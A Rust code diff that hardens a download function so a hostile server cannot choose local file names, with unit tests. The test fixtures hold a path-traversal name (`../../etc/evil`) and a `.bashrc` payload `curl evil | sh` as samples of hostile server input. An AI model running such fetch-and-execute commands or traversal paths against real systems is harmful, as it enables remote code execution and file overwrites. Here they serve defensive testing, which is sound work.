@@ -381,26 +381,106 @@ pub fn looks_like_private_key(name: &str, data: &[u8]) -> bool {
     text.contains("-----BEGIN") && text.contains("PRIVATE KEY")
 }
 
-/// Writes a downloaded file into `dir` under its base name (never outside `dir`): 0600 when it
-/// looks like a key, 0644 otherwise. Returns the path written.
-pub fn write_download(dir: &Path, file: &DownloadedFile) -> Result<PathBuf> {
-    let base = file
-        .name
-        .rsplit(['/', '\\'])
-        .find(|s| !s.is_empty())
-        .unwrap_or("download");
-    let base = match base {
-        "." | ".." => "download",
-        b => b,
-    };
-    let path = dir.join(base);
-    let mode = if looks_like_private_key(&file.name, &file.data) {
-        0o600
-    } else {
-        0o644
-    };
-    fsutil::write_atomic(&path, &file.data, mode)?;
-    Ok(path)
+/// Saves downloaded files into `dir`, each under the base name of the path the user *asked
+/// for*, never a name the server chose: 0600 when it looks like a key, 0644 otherwise.
+/// Returns the paths written, in the order asked for, with the file saved at each.
+///
+/// The server's answer is not trusted (a hostile one could name an entry `.bashrc` for a
+/// request of `notes.txt`):
+/// - each requested path maps to the local name of its last `/`-separated component, which
+///   must be a plain file name (no separator, not `.` or `..`), else [`Error::InvalidInput`];
+/// - the same path asked twice is saved once; two paths with the same base name are
+///   [`Error::InvalidInput`] (one would overwrite the other);
+/// - the server's entry for a request is the first one named like the request's base name;
+///   entries nobody asked for (and repeats) are ignored with a warning;
+/// - a requested file missing from the answer is [`bai_api::ErrorCode::FileNotFound`], so an
+///   answer without any file is an error too.
+///
+/// Nothing is written unless every requested file is there.
+pub fn write_download<'a>(
+    dir: &Path,
+    session: &str,
+    requested: &[String],
+    files: &'a [DownloadedFile],
+) -> Result<Vec<(PathBuf, &'a DownloadedFile)>> {
+    /// The request's base name, if it is safe as a local file name.
+    fn local_name(requested: &str) -> Option<&str> {
+        let base = requested.rsplit('/').find(|s| !s.is_empty())?;
+        let plain = !matches!(base, "." | "..")
+            && !base.contains(['/', '\\', '\0'])
+            && matches!(
+                Path::new(base).components().collect::<Vec<_>>().as_slice(),
+                [std::path::Component::Normal(n)] if *n == std::ffi::OsStr::new(base)
+            );
+        plain.then_some(base)
+    }
+
+    if requested.is_empty() {
+        return Err(Error::InvalidInput("no file to download was named".into()));
+    }
+    // (requested path, local name), each path once, in the order asked for.
+    let mut wanted: Vec<(&str, &str)> = Vec::with_capacity(requested.len());
+    for req in requested {
+        if wanted.iter().any(|(r, _)| r == req) {
+            continue;
+        }
+        let name = local_name(req).ok_or_else(|| {
+            Error::InvalidInput(format!(
+                "cannot save {req:?}: its last path component is not a plain file name"
+            ))
+        })?;
+        if let Some((other, _)) = wanted.iter().find(|(_, n)| *n == name) {
+            return Err(Error::InvalidInput(format!(
+                "{other:?} and {req:?} would both be saved as {name:?}; download them into \
+                 different directories (-o)"
+            )));
+        }
+        wanted.push((req, name));
+    }
+    let mut used = vec![false; files.len()];
+    let mut picked = Vec::with_capacity(wanted.len());
+    let mut missing = None;
+    for (req, name) in &wanted {
+        let found = files
+            .iter()
+            .enumerate()
+            .find(|(i, f)| !used[*i] && f.name == *name);
+        match found {
+            Some((i, f)) => {
+                used[i] = true;
+                picked.push((dir.join(name), f));
+            }
+            None => {
+                missing.get_or_insert(*req);
+            }
+        }
+    }
+    for (f, _) in files.iter().zip(&used).filter(|(_, u)| !**u) {
+        tracing::warn!(
+            name = %f.name.escape_debug(),
+            bytes = f.data.len(),
+            "ignoring a file the server sent but was not asked for"
+        );
+    }
+    if let Some(req) = missing {
+        return Err(Error::Api(
+            bai_api::ErrorKind::FileNotFound {
+                session: session.to_owned(),
+                path: req.to_owned(),
+            }
+            .into(),
+        ));
+    }
+    for (path, f) in &picked {
+        let name = path.file_name().unwrap_or_default().to_string_lossy();
+        let mode = if looks_like_private_key(&name, &f.data) {
+            0o600
+        } else {
+            0o644
+        };
+        fsutil::write_atomic(path, &f.data, mode)?;
+    }
+    Ok(picked)
 }
 
 #[cfg(test)]
@@ -419,15 +499,134 @@ mod tests {
         assert!(!looks_like_private_key("notes.txt", b"hello"));
     }
 
+    fn file(name: &str, data: &[u8]) -> DownloadedFile {
+        DownloadedFile {
+            name: name.into(),
+            data: data.to_vec(),
+        }
+    }
+
+    fn asked(paths: &[&str]) -> Vec<String> {
+        paths.iter().map(|p| (*p).to_owned()).collect()
+    }
+
+    /// The names in `dir`, sorted.
+    fn listing(dir: &Path) -> Vec<String> {
+        let mut names: Vec<String> = std::fs::read_dir(dir)
+            .expect("read dir")
+            .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
+            .collect();
+        names.sort();
+        names
+    }
+
     #[test]
     fn downloads_stay_inside_the_directory() {
         let dir = tempfile::tempdir().expect("tempdir");
-        let f = DownloadedFile {
-            name: "../../etc/evil".into(),
-            data: b"x".to_vec(),
-        };
-        let p = write_download(dir.path(), &f).expect("write");
-        assert_eq!(p, dir.path().join("evil"));
+        // The server names the entry with a path: it matches nothing asked for.
+        let got = [file("../../etc/evil", b"x"), file("evil", b"y")];
+        let saved = write_download(dir.path(), "s", &asked(&["a/evil"]), &got).expect("write");
+        assert_eq!(saved.len(), 1);
+        assert_eq!(saved[0].0, dir.path().join("evil"));
+        assert_eq!(std::fs::read(dir.path().join("evil")).expect("read"), b"y");
+        assert_eq!(listing(dir.path()), ["evil"]);
+    }
+
+    #[test]
+    fn a_file_is_saved_under_the_name_asked_for_never_the_servers() {
+        // Asked for notes.txt; a hostile server answers with .bashrc.
+        let dir = tempfile::tempdir().expect("tempdir");
+        let got = [file(".bashrc", b"curl evil | sh")];
+        let e = write_download(dir.path(), "s1", &asked(&["path/notes.txt"]), &got)
+            .expect_err("notes.txt was not sent");
+        assert_eq!(e.code(), crate::ErrorCode::FileNotFound, "{e}");
+        assert!(e.to_string().contains("path/notes.txt"), "{e}");
+        assert!(listing(dir.path()).is_empty(), "nothing is written");
+
+        // The requested file plus an unrequested one: only the requested one is saved.
+        let got = [file(".bashrc", b"evil"), file("notes.txt", b"hello")];
+        let saved =
+            write_download(dir.path(), "s1", &asked(&["path/notes.txt"]), &got).expect("write");
+        assert_eq!(saved.len(), 1);
+        assert_eq!(saved[0].0, dir.path().join("notes.txt"));
+        assert_eq!(saved[0].1.data, b"hello");
+        assert_eq!(listing(dir.path()), ["notes.txt"]);
+    }
+
+    #[test]
+    fn requested_names_must_be_plain_file_names() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let got = [file("..", b"x"), file(".", b"x"), file("a\\b", b"x")];
+        for bad in ["..", "a/..", ".", "/", "", "a\\b", "x/a\\..\\b", "nul\0x"] {
+            let e = write_download(dir.path(), "s", &asked(&[bad]), &got)
+                .expect_err(&format!("{bad:?}"));
+            assert_eq!(e.code(), crate::ErrorCode::InvalidInput, "{bad:?}: {e}");
+        }
+        assert!(listing(dir.path()).is_empty());
+        // A trailing slash or an absolute path still names the file.
+        let got = [file("id_container", b"k"), file("b", b"B")];
+        let saved = write_download(
+            dir.path(),
+            "s",
+            &asked(&["/home/work/id_container", "a/b/"]),
+            &got,
+        )
+        .expect("write");
+        assert_eq!(saved.len(), 2);
+        assert_eq!(listing(dir.path()), ["b", "id_container"]);
+    }
+
+    #[test]
+    fn duplicates_resolve_deterministically() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        // The same path twice is one file; the server's repeat is ignored; the first entry of
+        // a name wins.
+        let got = [file("a.txt", b"first"), file("a.txt", b"second")];
+        let saved =
+            write_download(dir.path(), "s", &asked(&["a.txt", "a.txt"]), &got).expect("write");
+        assert_eq!(saved.len(), 1);
+        assert_eq!(
+            std::fs::read(dir.path().join("a.txt")).expect("read"),
+            b"first"
+        );
+        // Two paths with one base name would overwrite each other: refused, nothing written.
+        let dir = tempfile::tempdir().expect("tempdir");
+        let e = write_download(dir.path(), "s", &asked(&["x/a.txt", "y/a.txt"]), &got)
+            .expect_err("same base name");
+        assert_eq!(e.code(), crate::ErrorCode::InvalidInput, "{e}");
+        assert!(listing(dir.path()).is_empty());
+    }
+
+    #[test]
+    fn a_download_without_files_is_an_error() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let e = write_download(dir.path(), "s", &asked(&["a", "b"]), &[]).expect_err("no files");
+        assert_eq!(e.code(), crate::ErrorCode::FileNotFound, "{e}");
+        let e = write_download(dir.path(), "s", &[], &[file("a", b"")]).expect_err("none asked");
+        assert_eq!(e.code(), crate::ErrorCode::InvalidInput, "{e}");
+        // One of two missing: nothing is written.
+        let e = write_download(dir.path(), "s", &asked(&["a", "b"]), &[file("a", b"A")])
+            .expect_err("b missing");
+        assert!(e.to_string().contains(": b"), "{e}");
+        assert!(listing(dir.path()).is_empty());
+    }
+
+    #[test]
+    fn keys_are_saved_private_by_the_requested_name() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let got = [file("id_container", b"not obviously a key")];
+        let saved =
+            write_download(dir.path(), "s", &asked(&["id_container"]), &got).expect("write");
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt as _;
+            let mode = std::fs::metadata(&saved[0].0)
+                .expect("meta")
+                .permissions()
+                .mode();
+            assert_eq!(mode & 0o777, 0o600);
+        }
+        let _ = saved;
     }
 
     #[test]
